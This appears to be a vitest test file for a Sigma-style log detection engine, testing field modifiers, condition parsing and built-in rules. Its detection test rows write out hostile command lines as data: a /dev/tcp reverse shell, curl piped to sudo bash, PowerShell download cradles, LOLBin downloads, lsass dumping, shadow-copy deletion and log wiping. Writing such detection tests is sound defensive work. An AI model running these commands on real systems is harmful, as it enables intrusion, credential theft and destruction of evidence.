import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { builtInModule } from '../../../infra/sigma-rules.ts';
import { builtInFiles } from '../../../shared/sigma/built-in.gen.ts';
import { condition } from '../../../shared/sigma/condition.ts';
import { fieldTest } from '../../../shared/sigma/field.ts';
import { compileRule, RowCells } from '../../../shared/sigma/match.ts';
import { readRules } from '../../../shared/sigma/rule.ts';

const cells = (row: object) => new RowCells(row as Record<string, unknown>, new Map());
const matches = (key: string, value: unknown, cell: unknown): boolean => fieldTest(key, value)(cells({ f: cell }).cells) !== undefined;
const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string => Buffer.from(text, encoding).toString('base64');

describe('fieldTest', () => {
  it.each([
    ['f', 'Abc', 'aBC', true],
    ['f|cased', 'Abc', 'abc', false],
    ['f', 'a*c', 'abbc', true],
    ['f', 'a?c', 'abbc', false],
    ['f', 'a\\*c', 'a*c', true],
    ['f', 'a\\*c', 'abc', false],
    ['f', 'C:\\Windows\\\\*', 'c:\\windows\\x', true],
    ['f', 'C:\\Windows\\*', 'c:\\windows\\x', false],
    ['f', 'ab*ba', 'aba', false],
    ['f|contains', ['x', 'b'], 'abc', true],
    ['f|contains|all', ['a', 'c'], 'abc', true],
    ['f|contains|all', ['a', 'x'], 'abc', false],
    ['f|startswith', 'ab', 'abc', true],
    ['f|endswith', 'ab', 'abc', false],
    ['f|re', '^a.c$', 'abc', true],
    ['f|re', 'A', 'abc', false],
    ['f|re|i', 'A', 'abc', true],
    ['f|cidr', '10.0.0.0/8', '10.9.8.7', true],
    ['f|cidr', '10.0.0.0/8', '2001:db8::1', false],
    ['f|cidr', '2001:db8::/32', '2001:db8::1', true],
    ['f|exists', true, 'x', true],
    ['f|exists', true, null, false],
    ['f|exists', false, null, true],
    ['f', null, '', true],
    ['f', null, 'x', false],
    ['f', 4688, 4688, true],
    ['f|gte', 5, '7', true],
    ['f|lt', 5, '7', false],
    ['f|windash|contains', ' -enc', 'powershell /enc x', true],
    ['f|windash|contains', ' -enc', 'powershell \u2013enc x', true],
    ['f|base64|contains', 'secret', `x ${base64('secret')}`, true],
    ['f|base64offset|contains', 'wget http', base64('$(wget http://x)'), true],
    ['f|base64offset|contains', 'wget http', base64('; wget http://x)'), true],
    ['f|base64offset|contains', 'wget http', base64('xyzwget http://x)'), true],
    ['f|wide|base64offset|contains', 'IEX', base64('a;IEX(1)', 'utf16le'), true],
    ['f|wide|base64offset|contains', 'IEX', base64('a;IEX(1)'), false],
  ])('%s: %j on %j: %s', (key, value, cell, wanted) => {
    expect(matches(key, value, cell)).toBe(wanted);
  });

  it('costs linear time on values with many wildcards', () => {
    const started = performance.now();
    expect(matches('f', `${'*a'.repeat(40)}*b`, 'a'.repeat(1_000_000))).toBe(false);
    expect(matches('f', `${'*a?'.repeat(10)}b`, 'a'.repeat(100_000))).toBe(false);
    expect(performance.now() - started).toBeLessThan(5000);
  });
});

describe('condition', () => {
  const holds = (name: string): boolean => ['a', 'sel_one'].includes(name);
  it.each([
    ['a', true, ['a']],
    ['a and b', false],
    ['b or a', true, ['a']],
    ['not b and a', true, ['a']],
    ['not (a or b)', false],
    ['1 of sel_*', true, ['sel_one']],
    ['all of sel_*', false],
    ['any of them', true, ['a', 'sel_one']],
    ['a and not 1 of _*', true, ['a']],
  ])('%s', (text, wanted, names: string[] = []) => {
    const used = new Set<string>();
    expect(condition(text, ['a', 'b', 'sel_one', 'sel_two', '_x'])(holds, used)).toBe(wanted);
    if (wanted) expect([...used]).toEqual(names);
  });

  it.each(['', 'a and', '(a', 'a b', 'c', '1 of x*', 'a | count() > 5', '('.repeat(2000)])('refuses %j', (text) => {
    expect(() => condition(text, ['a', 'b'])).toThrow(Error);
  });
});

const rule = (detection: string): string => `title: t\nlogsource: {product: linux}\ndetection: ${detection}\n`;

describe('rules', () => {
  const run = (detection: string, row: object) => compileRule(readRules(rule(detection), 'rules')[0]!, 'rules')(cells(row));

  it.each([
    ['a list of maps is one of them', '{s: [{a: x}, {b: y}], condition: s}', { b: 'y' }, ['s: b: y']],
    ['a map is all of them', '{s: {a: x, b: y}, condition: s}', { a: 'x', b: 'z' }, undefined],
    ['keywords look everywhere', '{s: [one, two*x], condition: s}', { any: 'it is TWO or x' }, ['s: some field has two*x']],
    ['all keywords', "{s: {'|all': [one, two]}, condition: s}", { a: 'one', b: 'two' }, ['s: some field has one', 's: some field has two']],
    ['several conditions are one of them', '{s: {a: x}, t: {b: y}, condition: [s, t]}', { b: 'y' }, ['t: b: y']],
  ])('%s', (_, detection, row, why) => {
    expect(run(detection, row)?.why).toEqual(why);
  });

  it.each([
    ['no YAML', 'a: [', 'document 1'],
    ['no rule', 'title: t', 'logsource'],
    ['an alias', `${rule('{s: &a {f: x}, t: *a, condition: s}')}`, 'document 1'],
    ['no condition', rule('{s: {a: x}}'), 'rule "t"'],
    ['a modifier that is none', rule('{s: {a|sounds: x}, condition: s}'), 'sounds'],
    ['look-around', rule("{s: {'a|re': '(?=x)'}, condition: s}"), 'rule "t"'],
  ])('refuses %s and says where', (_, text, about) => {
    expect(() => readRules(text, 'rules').map((each) => compileRule(each, 'rules'))).toThrow(expect.objectContaining({ code: 'invalid-input', message: expect.stringContaining(about) }));
  });

  it('reads any text, or says what is wrong', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.jsonValue(), (text, value) => {
        for (const given of [text, rule(JSON.stringify({ s: value, condition: 's' }))])
          try {
            readRules(given, 'rules').map((each) => compileRule(each, 'rules')(cells({ f: text })));
          } catch (thrown) {
            expect(thrown).toMatchObject({ code: 'invalid-input' });
          }
      }),
    );
  });
});

describe('built-in rules', () => {
  const all = Object.entries(builtInFiles).flatMap(([file, text]) => readRules(text, file).map((each) => compileRule(each, file)));
  const ids = (row: object): string[] => all.flatMap((match) => match(cells(row))?.rule.id ?? []);
  it.each([
    [{ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil /urlcache -f http://x a' }, 'certutil'],
    [{ CommandLine: 'mshta.exe javascript:alert(1)' }, 'mshta'],
    [{ CommandLine: 'regsvr32 /s /u /i:http://x/a.sct scrobj.dll' }, 'regsvr32-scriptlet'],
    [{ CommandLine: 'rundll32 \\\\host@80\\DavWWWRoot\\a.dll,x' }, 'rundll32-script'],
    [{ CommandLine: 'bitsadmin /transfer j http://x a' }, 'bitsadmin'],
    [{ CommandLine: 'vssadmin delete shadows /all /quiet' }, 'shadow-copies'],
    [{ CommandLine: 'rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 x full' }, 'lsass-dump'],
    [{ ParentImage: 'C:\\Office\\WINWORD.EXE', Image: 'C:\\Windows\\System32\\cmd.exe' }, 'office-shell'],
    [{ CommandLine: 'powershell -nop -enc SQBFAFgAIAAxACAAMQAgADEA' }, 'powershell-encoded'],
    [{ ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://x')" }, 'powershell-download'],
    [{ ScriptBlockText: base64('xx AmsiUtils', 'utf16le') }, 'powershell-amsi'],
    [{ CommandLine: 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1' }, 'linux-reverse-shell'],
    [{ CommandLine: 'curl -s http://x | sudo bash' }, 'linux-download-shell'],
    [{ CommandLine: 'rm -f /var/log/auth.log' }, 'linux-history'],
  ])('%j is found', (row, id) => expect(ids(row)).toEqual([`gumshoe-${id}`]));

  it.each([{ CommandLine: 'certutil -hashfile a.exe' }, { CommandLine: 'curl -o a.sh http://x' }, { CommandLine: 'powershell -File a.ps1' }, { ScriptBlockText: 'Get-Date' }, {}])('%j is left alone', (row) => {
    expect(ids(row)).toEqual([]);
  });

  it('are those in their folder', () => {
    expect(readFileSync('shared/sigma/built-in.gen.ts', 'utf8')).toBe(builtInModule());
  });
});
